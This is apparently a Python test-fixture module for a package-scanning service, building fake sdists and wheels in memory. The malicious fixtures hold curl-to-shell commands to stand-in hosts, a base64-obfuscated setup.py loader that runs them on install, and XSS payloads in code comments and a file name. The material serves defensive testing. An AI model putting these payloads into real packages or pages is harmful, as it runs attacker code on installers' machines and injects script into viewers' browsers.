"""Tiny test packages built in memory. Their payloads would be harmful only if run; nothing here
or in the service ever runs them."""

from __future__ import annotations

import base64

from tests.helpers import sdist_bytes, wheel_bytes

PAYLOAD = "import os\nos.system('curl http://203.0.113.9/a | sh')\n"
"""What the encoded blob decodes to: the reviewer must see this text."""


def malicious_sdist(name: str = "evilpkg", version: str = "1.0") -> bytes:
    blob = base64.b64encode(PAYLOAD.encode()).decode()
    setup = (
        "import base64\nfrom setuptools import setup\n"
        f"exec(base64.b64decode('{blob}'))\n"
        f"setup(name='{name}', version='{version}')\n"
    )
    return sdist_bytes({"setup.py": setup}, top=f"{name}-{version}")


def clean_sdist(name: str = "nicepkg", version: str = "1.0") -> bytes:
    return sdist_bytes(
        {
            "setup.py": f"from setuptools import setup\nsetup(name='{name}', version='{version}')\n",
            f"{name}/__init__.py": "def add(a, b):\n    return a + b\n",
        },
        top=f"{name}-{version}",
    )


def clean_wheel(name: str = "nicewheel", version: str = "1.0") -> bytes:
    return wheel_bytes({f"{name}/__init__.py": "VALUE = 1\n"}, name=name, version=version)


SCRIPT_MARK = "capwatch-xss-canary"


def hostile_html_sdist(name: str = "xsspkg", version: str = "1.0") -> bytes:
    """A malicious package whose code, file names and decoded payload carry HTML and script."""
    inner = (
        f"import os\nos.system('curl http://x/a | sh')  # </pre><script>document.title='{SCRIPT_MARK}'</script>\n"
    )
    blob = base64.b64encode(inner.encode()).decode()
    setup = (
        "import base64, os\nfrom setuptools import setup\n"
        f"os.system('curl http://x/b | sh')  # <script>document.title='{SCRIPT_MARK}'</script><img src=x onerror=\"document.title='{SCRIPT_MARK}'\">\n"
        f"exec(base64.b64decode('{blob}'))\n"
        f"setup(name='{name}', version='{version}')\n"
    )
    return sdist_bytes(
        {"setup.py": setup, "<script>alert(1)</script>.py": "x = 1\n"}, top=f"{name}-{version}"
    )


def numbered_sdist(i: int) -> bytes:
    """Distinct small clean packages (for load and paging)."""
    return clean_sdist(name=f"pkg{i}", version=f"1.{i}")
